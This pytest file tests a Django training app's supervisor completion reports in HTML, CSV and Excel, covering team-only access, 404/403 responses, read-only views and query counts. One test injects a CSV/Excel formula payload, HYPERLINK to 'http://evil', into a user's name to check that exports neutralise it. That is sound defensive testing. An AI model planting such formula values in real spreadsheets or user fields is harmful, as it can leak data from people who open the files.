"""A supervisor sees exactly completion, of exactly their own team."""

import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from home.training import group, team_report
from home.training.models import Completion, CourseAssignment, LessonDone, TrainingTeam
from resources.admin.spreadsheet import inert
from tests.home.training.conftest import CANARY, client_of, go_through, user

ASSIGNED, DUE = date(2026, 3, 1), date(2026, 5, 4)


def person(name: str, **more) -> User:
    made = User.objects.create_user(name, **more)
    made.groups.add(Group.objects.get(name=group.NAME))
    return made


@pytest.fixture
def boss(course) -> Client:
    return client_of("boss", group.NAME, first_name="Pat", last_name="Lee")


@pytest.fixture
def team(boss, staff) -> TrainingTeam:
    """Of `boss`, with `staff` and Ann in it; Zed is in nobody's team."""
    made = TrainingTeam.objects.create(name="Kent", supervisor=user("boss"))
    made.members.set([user("staff"), person("ann", first_name="Ann", last_name="Bell")])
    person("zed", first_name="Zed", last_name="Quint")
    return made


def assign(course, to: str = group.NAME, due: date = DUE) -> None:
    made = CourseAssignment.objects.create(course=course, group=Group.objects.get_or_create(name=to)[0], due_on=due)
    CourseAssignment.objects.filter(pk=made.pk).update(assigned_on=ASSIGNED)


def address(team: TrainingTeam, kind: str = "") -> str:
    return f"/training/team/{team.pk}/{kind}"


def cells_of(html: str) -> list[list[str]]:
    body = re.search(r"<tbody.*?</tbody>", html, re.S).group()
    rows = re.findall(r"<tr.*?</tr>", body, re.S)
    cells = [re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S) for row in rows]
    return [[re.sub(r"<[^>]+>", "", cell).strip() for cell in row] for row in cells]


def csv_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_supervisor_sees_exactly_completion(boss, team, course, staff):
    course.refresh_after = 12
    course.save()
    assign(course)
    go_through(staff)
    client = Client()
    client.force_login(user("ann"))
    client.post("/training/small/first/one/")
    today = timezone.localdate()
    refresh = today.replace(year=today.year + 1) if (today.month, today.day) != (2, 29) else date(today.year + 1, 2, 28)

    def short(day: date) -> str:
        return f"{day:%b} {day.day}, {day.year}"

    html = boss.get(address(team)).content.decode()
    assert cells_of(html) == [
        [
            "Ann Bell",
            f"Small {CANARY}",
            short(ASSIGNED),
            short(DUE),
            "Not yet, date has passed" if today > DUE else "Not yet",
            "–",
        ],
        ["Rosa Diaz", f"Small {CANARY}", short(ASSIGNED), short(DUE), short(today), short(refresh)],
    ]
    assert csv_of(boss.get(address(team, "csv/"))) == [
        list(team_report.COLUMNS),
        ["Ann Bell", f"Small {CANARY}", str(ASSIGNED), str(DUE), "", ""],
        ["Rosa Diaz", f"Small {CANARY}", str(ASSIGNED), str(DUE), str(today), str(refresh)],
    ]
    book = load_workbook(io.BytesIO(boss.get(address(team, "xlsx/")).content))
    sheet = [[cell.date() if hasattr(cell, "date") else cell for cell in row] for row in book.active.values]
    assert sheet == [
        list(team_report.COLUMNS),
        ["Ann Bell", f"Small {CANARY}", ASSIGNED, DUE, None, None],
        ["Rosa Diaz", f"Small {CANARY}", ASSIGNED, DUE, today, refresh],
    ]


def test_nothing_changes_for_the_supervisor__member_half_way(boss, team, course, staff):
    assign(course)
    kinds = ("", "csv/")
    before = [boss.get(address(team, kind)).content for kind in kinds]
    staff.post("/training/small/first/one/")
    staff.post("/training/small/first/two/")
    assert LessonDone.objects.count() == 2
    assert [boss.get(address(team, kind)).content for kind in kinds] == before


def test_course_of_ones_own_choice_counts_when_completed__not_before(boss, team, staff):
    assert "none is completed yet" in boss.get(address(team)).content.decode()
    go_through(staff)
    assert [row[0] for row in cells_of(boss.get(address(team)).content.decode())] == ["Rosa Diaz"]


@pytest.mark.parametrize("kind", ["", "csv/", "xlsx/"])
def test_team_of_another_supervisor_is_not_there(team, boss, kind):
    other = client_of("other", group.NAME)
    TrainingTeam.objects.create(name="Renton", supervisor=user("other")).members.add(user("zed"))
    none = other.get(f"/training/team/999999/{kind}")
    response = other.get(address(team, kind))
    assert response.status_code == none.status_code == 404
    assert response.content == none.content
    assert boss.get(address(team, kind)).status_code == 200


@pytest.mark.parametrize("tail", ["", "{}/", "{}/csv/", "{}/xlsx/", "x/", "{}/pdf/", "{}/csv/more/"])
def test_whoever_is_no_supervisor_gets_the_plain_404(team, staff, tail):
    response = staff.get("/training/team/" + tail.format(team.pk))
    assert response.status_code == 404
    assert response.content == staff.get("/training/no-such-course/").content


def test_members_and_those_outside_see_no_row(team, course, staff):
    go_through(staff)
    assign(course)
    for client in (Client(), client_of("stranger"), client_of("zoe", group.NAME)):
        for path in ("/training/", "/training/small/", address(team), address(team, "csv/")):
            said = client.get(path).content.decode()
            assert "Rosa" not in said
            assert "Bell" not in said


def test_supervisor_outside_the_group_sees_nothing(team, boss, course):
    assign(course)
    user("boss").groups.clear()
    for path in ("/training/team/", address(team), address(team, "csv/")):
        response = boss.get(path)
        assert response.status_code == 403
        assert CANARY not in response.content.decode()


def test_supervisor_is_no_longer_one__team_given_away(team, boss, course):
    assign(course)
    team.supervisor = user("zed")
    team.save()
    assert boss.get(address(team)).status_code == 404
    assert boss.get(address(team, "xlsx/")).status_code == 404


def test_supervisor_is_no_better_than_others__outside_their_team(boss, team, course):
    assign(course)
    for kind in ("", "csv/"):
        said = boss.get(address(team, kind)).content.decode()
        assert "Ann Bell" in said
        assert "Quint" not in said


def test_course_that_the_supervisor_may_not_read_is_not_told(boss, team, course, staff):
    from wagtail.models import BaseViewRestriction, PageViewRestriction

    go_through(staff)
    shut = PageViewRestriction.objects.create(page=course, restriction_type=BaseViewRestriction.GROUPS)
    shut.groups.add(Group.objects.create(name="Few"))
    for kind in ("", "csv/"):
        assert CANARY not in boss.get(address(team, kind)).content.decode()


@pytest.mark.parametrize("method", ["post", "put", "delete"])
def test_view_is_to_read_only(boss, team, method):
    assert getattr(boss, method)(address(team)).status_code == 405


@pytest.mark.parametrize("start", list("=+-@\t＝"))
def test_name_is_no_formula__csv_and_xlsx(boss, team, course, start):
    wicked = f'{start}HYPERLINK("http://evil"&A1)'
    User.objects.filter(username="ann").update(first_name=wicked, last_name="")
    course.title = f"{start}1+1"
    course.save()
    assign(course)
    for row in csv_of(boss.get(address(team, "csv/")))[1:]:
        assert not any(re.match(r"\s*[=+\-@＝\t]", cell) for cell in row)
    book = load_workbook(io.BytesIO(boss.get(address(team, "xlsx/")).content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert inert(wicked.strip()) in [cell.value for cell in cells]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if re.match(r"\s*[=+\-@＝\t]", str(cell.value or ""))]


def test_name_that_no_spreadsheet_takes_is_cleaned(boss, team, course):
    User.objects.filter(username="ann").update(first_name="An\x01n\x1f", last_name="Ó\ud7ff")
    assign(course)
    assert boss.get(address(team, "xlsx/")).status_code == 200


def test_one_team_is_opened_at_once__several_are_listed(boss, team):
    assert boss.get("/training/team/").url == address(team)
    TrainingTeam.objects.create(name="Renton", supervisor=user("boss"))
    html = boss.get("/training/team/").content.decode()
    assert "Kent" in html
    assert "Renton" in html


def test_learner_is_told_who_sees_what(team, staff, boss):
    html = staff.get("/training/").content.decode()
    assert "Pat Lee can see which courses you were given or have completed" in html
    assert "Your team" not in html
    html = boss.get("/training/").content.decode()
    assert "can see" not in html
    assert 'href="/training/team/"' in html


def test_view_asks_as_little__larger_team(boss, team, course):
    assign(course)

    def statements() -> int:
        with CaptureQueriesContext(connection) as asked:
            assert boss.get(address(team)).status_code == 200
        return len(asked)

    statements()
    before = statements()
    for number in range(10):
        one = person(f"member-{number}")
        team.members.add(one)
        Completion.objects.create(learner=one, course=course, completed_on=DUE - timedelta(days=number))
    assert statements() == before


def test_whoever_has_left_is_in_no_report__and_sees_none(boss, team, course, staff):
    assign(course)
    User.objects.filter(username="ann").update(is_active=False)
    assert [row[0] for row in csv_of(boss.get(address(team, "csv/")))[1:]] == ["Rosa Diaz"]
    User.objects.filter(username="boss").update(is_active=False)
    assert "Pat Lee" not in staff.get("/training/").content.decode()


def test_training_that_an_editor_opened_to_all_knows_nobody__anonymous(team, course, staff):
    from wagtail.models import PageViewRestriction

    PageViewRestriction.objects.all().delete()
    go_through(Client())
    assert not Completion.objects.exists()
    html = Client().get("/training/").content.decode()
    assert f"Small {CANARY}" in html
    assert "Rosa" not in html
    assert "Go on where" not in html
    for path in ("/training/team/", address(team), "/training/certificates/", "/training/certificates/1/"):
        assert Client().get(path).status_code == 404
    for path in ("/training/small/certificate/", "/training/small/start-over/"):
        for method in ("get", "post"):
            assert getattr(Client(), method)(path).url == "/training/small/"
